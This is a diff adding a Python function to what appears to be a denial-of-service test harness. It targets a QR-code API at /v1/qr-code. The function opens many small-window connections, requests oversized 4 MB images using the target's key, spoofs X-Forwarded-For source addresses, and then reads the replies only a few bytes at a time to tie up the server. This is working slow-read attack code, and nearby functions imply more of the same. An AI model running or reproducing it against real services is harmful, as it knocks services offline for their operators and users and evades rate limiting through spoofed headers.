@@ -158,6 +158,34 @@ def large_lists_without_reading(target, until, number):
 
 @holding
 @attack
+def codes_without_reading(target, until, number):
+    """QR codes of 4 MB each, asked for with the public key from 16 networks, of which a few bytes are read at times"""
+    outcome = Outcome()
+    connections = []
+    settings = {
+        "width": 2000, "margin": 0, "image_format": "jpeg", "code_pattern": 3, "code_color": "#ff0000", "background_color": "#00ffff"}
+    for index in range(min(30, target.at_once // 10)):
+        code = {"branch_key": target.key, "data": {}, "alias": "\u6f22" * 124 + f"{number}-{index}", "qr_code_settings": settings}
+        connections.append(with_small_window(target))
+        connections[-1].sendall(request("POST", "/v1/qr-code", code, {"X-Forwarded-For": f"203.0.{16 * number + index % 4}.9"}))
+        outcome.requests += 1
+        time.sleep(0.2)
+    for connection in connections:
+        connection.setblocking(False)
+    for _ in lasting(until):
+        for connection in connections:
+            try:
+                connection.recv(4096)
+            except OSError:
+                pass
+        time.sleep(4)
+    for connection in connections:
+        connection.close()
+    return outcome
+
+
+@holding
+@attack
 def wide_exports_without_reading(target, until, number):
     """exports of all 239 columns of 3,000 events as JSON, that are never read"""
     outcome = Outcome()
